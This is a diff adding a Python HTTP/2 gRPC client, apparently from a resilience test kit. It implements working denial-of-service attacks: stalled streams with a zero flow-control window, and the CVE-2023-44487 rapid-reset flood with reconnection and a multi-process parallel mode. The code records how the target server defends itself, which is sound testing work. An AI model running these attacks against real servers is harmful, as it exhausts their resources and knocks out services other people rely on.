@@ -1,0 +1,336 @@
+"""A raw HTTP/2 gRPC client on the ``h2`` package (plain TCP, prior knowledge, no TLS), for the two attacks a
+real gRPC library will not make:
+
+- :func:`stall_streams`: streams that each ask for a large answer while the client grants the server no
+  flow-control credit (SETTINGS_INITIAL_WINDOW_SIZE 0, never a WINDOW_UPDATE), so the server can send the
+  response headers but never a byte of the answer: whatever it built stays in its memory.
+- :func:`rapid_reset`: HEADERS + DATA + RST_STREAM for many streams in a row (CVE-2023-44487): each stream
+  starts a call on the server and cancels it at once.
+
+The client keeps reading the server's frames on a thread (so its SETTINGS and PINGs are acknowledged and the
+connection looks alive) but never acknowledges received data: the server's send windows only shrink.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import multiprocessing
+import socket
+import threading
+import time
+from collections import Counter
+from concurrent.futures import ProcessPoolExecutor
+from dataclasses import dataclass, field
+
+import h2.config
+import h2.connection
+import h2.errors
+import h2.events
+import h2.exceptions
+import h2.settings
+
+from testkit.payloads import grpc_frame
+
+_READ_BYTES = 65536
+
+
+@dataclass
+class StreamOutcome:
+    """What the server did with one stream: answered headers, ended it (trailers or reset), or nothing yet."""
+
+    stream_id: int
+    opened_at: float
+    headers_at: float | None = None
+    ended_at: float | None = None
+    grpc_status: int | None = None  # from trailers (or a trailers-only answer)
+    grpc_message: str = ""
+    reset_code: int | None = None  # RST_STREAM from the server (h2.errors.ErrorCodes value)
+    data_bytes: int = 0
+
+    @property
+    def ended(self) -> bool:
+        return self.ended_at is not None
+
+
+class RawGrpcConnection:
+    """One HTTP/2 connection speaking gRPC by hand.
+
+    ``initial_window_size`` is what the client advertises for the streams the server sends on (0: the server
+    may send no DATA until a WINDOW_UPDATE, which never comes). Frames are read on a daemon thread until
+    :meth:`close`; every outcome is recorded in :attr:`streams`.
+    """
+
+    def __init__(self, host: str, port: int, initial_window_size: int = 65535, connect_timeout: float = 5.0) -> None:
+        self.host, self.port = host, port
+        self.sock = socket.create_connection((host, port), timeout=connect_timeout)
+        self.sock.settimeout(None)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        self.h2.local_settings = h2.settings.Settings(
+            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window_size}
+        )
+        self.streams: dict[int, StreamOutcome] = {}
+        self.goaway: h2.events.ConnectionTerminated | None = None
+        self.closed = threading.Event()  # the server closed the socket, or GOAWAY, or close()
+        self.settings_received = threading.Event()
+        self.protocol_errors: list[str] = []
+        self._lock = threading.Lock()  # h2's state machine and the socket's writes are not thread-safe
+        self._begin = time.monotonic()
+        with self._lock:
+            self.h2.initiate_connection()
+            self._flush_locked()
+        self._reader = threading.Thread(target=self._read_loop, name=f"h2raw-{port}", daemon=True)
+        self._reader.start()
+
+    # --- sending --------------------------------------------------------------------------------------------
+
+    def _flush_locked(self) -> None:
+        data = self.h2.data_to_send()
+        if data:
+            self.sock.sendall(data)
+
+    def wait_settings(self, timeout: float = 5.0) -> bool:
+        """Wait for the server's SETTINGS, so its stream limit is known before streams are opened."""
+        return self.settings_received.wait(timeout)
+
+    @property
+    def server_max_streams(self) -> int:
+        return self.h2.remote_settings.max_concurrent_streams
+
+    def start_call(self, path: str, message: bytes, reset: bool = False, flush: bool = True) -> int | None:
+        """Open a stream with one unary gRPC request (HEADERS, then DATA ending the stream); with ``reset``, a
+        RST_STREAM (CANCEL) right after. The stream id, or None when the server's stream limit or a GOAWAY
+        leaves no room for a new stream (the limit being enforced is the server's defence)."""
+        with self._lock:
+            if self.closed.is_set():
+                return None
+            try:
+                stream_id = self.h2.get_next_available_stream_id()
+                self.h2.send_headers(stream_id, [
+                    (":method", "POST"), (":scheme", "http"), (":path", path),
+                    (":authority", f"{self.host}:{self.port}"), ("content-type", "application/grpc"),
+                    ("te", "trailers"),
+                ])  # fmt: skip
+                self.h2.send_data(stream_id, grpc_frame(message), end_stream=True)
+                self.streams[stream_id] = StreamOutcome(stream_id, time.monotonic() - self._begin)
+                if reset:
+                    self.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
+            except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
+                return None
+            if flush:
+                self._send_or_close_locked()
+        return stream_id
+
+    def flush(self) -> None:
+        with self._lock:
+            self._send_or_close_locked()
+
+    def _send_or_close_locked(self) -> None:
+        try:
+            self._flush_locked()
+        except OSError:
+            self.closed.set()
+
+    def close(self) -> None:
+        """Close the socket without a GOAWAY: the way a crashed or vanished client leaves."""
+        self.closed.set()
+        with contextlib.suppress(OSError):  # already closed by the server
+            self.sock.shutdown(socket.SHUT_RDWR)
+        self.sock.close()
+        self._reader.join(5.0)
+
+    # --- receiving ------------------------------------------------------------------------------------------
+
+    def _read_loop(self) -> None:
+        while not self.closed.is_set():
+            try:
+                data = self.sock.recv(_READ_BYTES)
+            except OSError:
+                break
+            if not data:
+                break
+            with self._lock:
+                try:
+                    events = self.h2.receive_data(data)
+                except h2.exceptions.ProtocolError as exc:
+                    self.protocol_errors.append(repr(exc))
+                    break
+                for event in events:
+                    self._record_locked(event)
+                # SETTINGS and PING acknowledgements only: received DATA is never acknowledged, so the
+                # server's windows never reopen.
+                self._send_or_close_locked()
+        self.closed.set()
+
+    def _record_locked(self, event: h2.events.Event) -> None:
+        now = time.monotonic() - self._begin
+        if isinstance(event, h2.events.RemoteSettingsChanged):
+            self.settings_received.set()
+        elif isinstance(event, h2.events.ConnectionTerminated):
+            self.goaway = event
+            self.closed.set()
+        stream = self.streams.get(getattr(event, "stream_id", None) or 0)
+        if stream is None:
+            return
+        if isinstance(event, h2.events.ResponseReceived):
+            stream.headers_at = now
+            self._read_status(stream, event.headers, now)  # a trailers-only answer (an error before any work)
+        elif isinstance(event, h2.events.TrailersReceived):
+            self._read_status(stream, event.headers, now)
+        elif isinstance(event, h2.events.DataReceived):
+            stream.data_bytes += len(event.data)
+        elif isinstance(event, h2.events.StreamReset) and stream.ended_at is None:
+            stream.reset_code, stream.ended_at = int(event.error_code), now
+
+    @staticmethod
+    def _read_status(stream: StreamOutcome, headers: list[tuple[str, str]], now: float) -> None:
+        values = dict(headers)
+        if "grpc-status" in values:
+            stream.grpc_status, stream.grpc_message = int(values["grpc-status"]), values.get("grpc-message", "")
+            stream.ended_at = now
+
+
+# --- attacks ------------------------------------------------------------------------------------------------
+
+
+@dataclass
+class StallReport:
+    """Stalled streams over some connections: how many the server took, what it did with them."""
+
+    requested: int
+    opened: int = 0
+    not_opened: int = 0  # the server's stream limit (or a GOAWAY) left no room
+    outcomes: list[StreamOutcome] = field(default_factory=list)
+    goaways: int = 0
+
+    @property
+    def ended_by_server(self) -> int:
+        return sum(s.ended for s in self.outcomes)
+
+    @property
+    def still_open(self) -> int:
+        return sum(not s.ended for s in self.outcomes)
+
+    def statuses(self) -> dict[str, int]:
+        """Counts of how streams ended: ``grpc-<code>``, ``reset-<h2 error>``, or ``open``."""
+        names = Counter()
+        for s in self.outcomes:
+            if s.grpc_status is not None:
+                names[f"grpc-{s.grpc_status}"] += 1
+            elif s.reset_code is not None:
+                names[f"reset-{h2.errors.ErrorCodes(s.reset_code).name}"] += 1
+            else:
+                names["open"] += 1
+        return dict(names)
+
+
+class StalledStreams:
+    """``streams`` calls spread over ``connections`` connections that advertise a window of 0 and never read
+    an answer; held open from :meth:`open` until :meth:`close` (a ``with`` block)."""
+
+    def __init__(self, host: str, port: int, path: str, message: bytes, streams: int, connections: int) -> None:
+        self.host, self.port, self.path, self.message = host, port, path, message
+        self.report = StallReport(requested=streams)
+        self.connections = connections
+        self._open: list[RawGrpcConnection] = []
+
+    def open(self) -> StalledStreams:
+        self._open = [RawGrpcConnection(self.host, self.port, initial_window_size=0) for _ in range(self.connections)]
+        for conn in self._open:
+            conn.wait_settings()
+        for n in range(self.report.requested):
+            opened = self._open[n % len(self._open)].start_call(self.path, self.message)
+            if opened is None:
+                self.report.not_opened += 1
+            else:
+                self.report.opened += 1
+        return self
+
+    def snapshot(self) -> StallReport:
+        """The report as of now (stream outcomes are filled in by the readers as the server acts)."""
+        self.report.outcomes = [s for conn in self._open for s in conn.streams.values()]
+        self.report.goaways = sum(conn.goaway is not None for conn in self._open)
+        return self.report
+
+    def close(self) -> StallReport:
+        report = self.snapshot()
+        for conn in self._open:
+            conn.close()
+        return report
+
+    def __enter__(self) -> StalledStreams:
+        return self.open()
+
+    def __exit__(self, *exc_info: object) -> None:
+        self.close()
+
+
+@dataclass
+class RapidResetReport:
+    streams_reset: int = 0
+    connections_used: int = 0
+    goaways: Counter = field(default_factory=Counter)  # the server's GOAWAY error codes, by name
+    seconds: float = 0.0
+
+
+def rapid_reset(
+    host: str,
+    port: int,
+    path: str,
+    message: bytes,
+    streams: int,
+    max_seconds: float,
+    batch: int = 50,
+    reconnect: bool = True,
+) -> RapidResetReport:
+    """``streams`` streams of HEADERS + DATA + RST_STREAM on one connection, written ``batch`` at a time;
+    with ``reconnect`` a GOAWAY only makes the attacker open a new connection (as a real one would). Stops
+    at ``streams`` or ``max_seconds``."""
+    report = RapidResetReport()
+    begin = time.monotonic()
+    conn: RawGrpcConnection | None = None
+    try:
+        while report.streams_reset < streams and time.monotonic() - begin < max_seconds:
+            if conn is None or conn.closed.is_set():
+                if conn is not None:
+                    if conn.goaway is not None:
+                        report.goaways[h2.errors.ErrorCodes(conn.goaway.error_code).name] += 1
+                    conn.close()
+                    if not reconnect:
+                        break
+                conn = RawGrpcConnection(host, port)
+                conn.wait_settings()
+                report.connections_used += 1
+            sent = 0
+            for _ in range(min(batch, streams - report.streams_reset)):
+                if conn.start_call(path, message, reset=True, flush=False) is None:
+                    break
+                sent += 1
+            report.streams_reset += sent
+            conn.flush()
+            if not sent:
+                time.sleep(0.01)  # no room for a stream yet: wait for the server rather than spin
+    except OSError:
+        pass  # the server refused or dropped the connection: the attack ends here, the report says how far
+    finally:
+        if conn is not None:
+            if conn.goaway is not None:
+                report.goaways[h2.errors.ErrorCodes(conn.goaway.error_code).name] += 1
+            conn.close()
+    report.seconds = time.monotonic() - begin
+    return report
+
+
+def rapid_reset_parallel(
+    host: str, port: int, path: str, message: bytes, connections: int, streams_each: int, max_seconds: float
+) -> list[RapidResetReport]:
+    """:func:`rapid_reset` from ``connections`` processes at once, one connection each: h2 is pure Python,
+    and in separate processes the attackers neither share one core's worth of interpreter nor slow the
+    caller's own threads (its probes and victims)."""
+    context = multiprocessing.get_context("spawn")  # no fork of a process that runs gRPC threads
+    with ProcessPoolExecutor(connections, mp_context=context) as pool:
+        futures = [
+            pool.submit(rapid_reset, host, port, path, message, streams_each, max_seconds)
+            for _ in range(connections)
+        ]  # fmt: skip
+        return [future.result(timeout=max_seconds + 60.0) for future in futures]
